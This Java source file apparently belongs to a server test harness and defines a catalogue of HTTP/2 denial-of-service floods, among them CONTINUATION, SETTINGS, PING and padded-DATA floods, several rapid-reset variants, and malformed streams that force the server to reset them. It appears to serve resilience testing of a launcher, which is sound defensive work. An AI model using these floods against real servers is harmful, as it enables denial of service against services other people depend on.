// SPDX-License-Identifier: Apache-2.0
package dev.weir.launcher.attackers;

import static java.nio.charset.StandardCharsets.US_ASCII;

import dev.weir.testing.http2.ErrorCode;
import dev.weir.testing.http2.Frame;
import dev.weir.testing.http2.HeaderBlock;
import dev.weir.testing.http2.Http2Connection;
import java.io.ByteArrayOutputStream;
import java.util.List;
import java.util.function.BiFunction;
import java.util.stream.IntStream;

/**
 * Frames without end that cost their sender less than the server.
 *
 * @param name what they are
 * @param opening what comes before them
 * @param more the nth part of them
 */
record Flood(String name, Opening opening, More more) {
  private static final int AT_ONCE = 200;
  private static final byte[] NONE = {};
  private static final String HOT = "/clusters";

  /** What comes first. */
  @FunctionalInterface
  interface Opening {
    Frame[] on(Http2Connection connection);
  }

  /** Some of the frames. */
  @FunctionalInterface
  interface More {
    byte[] on(Http2Connection connection, int part);
  }

  /** The same frame again and again. */
  private static Flood of(String name, Frame frame) {
    return new Flood(name, c -> new Frame[0], repeated(frame));
  }

  private static More repeated(Frame frame) {
    byte[] one = frame.bytes();
    ByteArrayOutputStream many = new ByteArrayOutputStream(one.length * AT_ONCE);
    for (int i = 0; i < AT_ONCE; i++) {
      many.writeBytes(one);
    }
    byte[] all = many.toByteArray();
    return (connection, part) -> all;
  }

  /** A stream after the other, each opened and ended somehow. */
  private static Flood ofStreams(
      String name, BiFunction<Http2Connection, Integer, List<Frame>> frames) {
    return new Flood(
        name,
        c -> new Frame[0],
        (connection, part) -> {
          ByteArrayOutputStream many = new ByteArrayOutputStream();
          IntStream.range(part * AT_ONCE, (part + 1) * AT_ONCE)
              .mapToObj(i -> frames.apply(connection, 2 * i + 1))
              .flatMap(List::stream)
              .forEach(frame -> many.writeBytes(frame.bytes()));
          return many.toByteArray();
        });
  }

  private static HeaderBlock form(Http2Connection connection) {
    return connection
        .request("POST", "/jars/upload")
        .with("content-type", "multipart/form-data; boundary=x");
  }

  static List<Flood> all() {
    return List.of(
        new Flood(
            "empty CONTINUATION",
            c -> new Frame[] {Frame.openHeaders(1, true, c.request("GET", HOT))},
            repeated(Frame.continuation(1, false, HeaderBlock.raw()))),
        new Flood(
            "CONTINUATION of a byte",
            c -> new Frame[] {Frame.openHeaders(1, true, HeaderBlock.raw())},
            repeated(Frame.continuation(1, false, HeaderBlock.raw((byte) 0x20)))),
        of("SETTINGS", Frame.settings(Frame.MAX_CONCURRENT_STREAMS, 100)),
        of("empty SETTINGS", Frame.settings()),
        of("SETTINGS that answer nothing", Frame.settingsAck()),
        of("PING", Frame.ping(1)),
        of("PING that answers nothing", new Frame(Frame.PING, Frame.ACK, 0, new byte[8])),
        ofStreams("PRIORITY", (c, stream) -> List.of(Frame.priority(stream, 0))),
        of("WINDOW_UPDATE", Frame.windowUpdate(0, 1)),
        of("GOAWAY", Frame.goAway(0, 0)),
        of("frames that nobody knows", new Frame(0x16, 0, 0)),
        new Flood(
            "empty DATA",
            c -> new Frame[] {Frame.headers(1, false, form(c))},
            repeated(Frame.data(1, false, NONE))),
        new Flood(
            "DATA of nothing but padding",
            c -> new Frame[] {Frame.headers(1, false, form(c))},
            repeated(new Frame(Frame.DATA, Frame.PADDED, 1, new byte[] {3, 0, 0, 0}))),
        new Flood(
            "RST_STREAM of a stream that is closed",
            c -> new Frame[] {Frame.headers(1, true, c.request("GET", HOT))},
            repeated(Frame.reset(1, ErrorCode.CANCEL))),
        new Flood(
            "WINDOW_UPDATE of a stream that is closed",
            c ->
                new Frame[] {
                  Frame.headers(1, true, c.request("GET", HOT)), Frame.reset(1, ErrorCode.CANCEL)
                },
            repeated(Frame.windowUpdate(1, 1))),
        ofStreams("rapid reset of what is in memory", (c, stream) -> reset(c, stream, HOT)),
        ofStreams(
            "rapid reset of what is not",
            (c, stream) -> reset(c, stream, "/jobs/%032x/config".formatted(stream))),
        ofStreams(
            "rapid reset of uploads",
            (c, stream) ->
                List.of(
                    Frame.headers(stream, false, form(c)), Frame.reset(stream, ErrorCode.CANCEL))),
        ofStreams(
            "streams that the server has to reset, by a window",
            (c, stream) -> broken(c, stream, Frame.windowUpdate(stream, 0))),
        ofStreams(
            "streams that the server has to reset, by DATA",
            (c, stream) -> broken(c, stream, Frame.data(stream, true, "x".getBytes(US_ASCII)))),
        ofStreams(
            "streams that the server has to reset, by HEADERS",
            (c, stream) ->
                List.of(Frame.headers(stream, true, c.request("GET", HOT).with("Upper", "case")))),
        ofStreams(
            "streams that the server has to reset, by PRIORITY",
            (c, stream) -> broken(c, stream, new Frame(Frame.PRIORITY, 0, stream, new byte[4]))));
  }

  private static List<Frame> reset(Http2Connection connection, int stream, String path) {
    return List.of(
        Frame.headers(stream, true, connection.request("GET", path)),
        Frame.reset(stream, ErrorCode.CANCEL));
  }

  private static List<Frame> broken(Http2Connection connection, int stream, Frame breaks) {
    return List.of(
        Frame.headers(
            stream, true, connection.request("GET", "/jobs/%032x/config".formatted(stream))),
        breaks);
  }
}
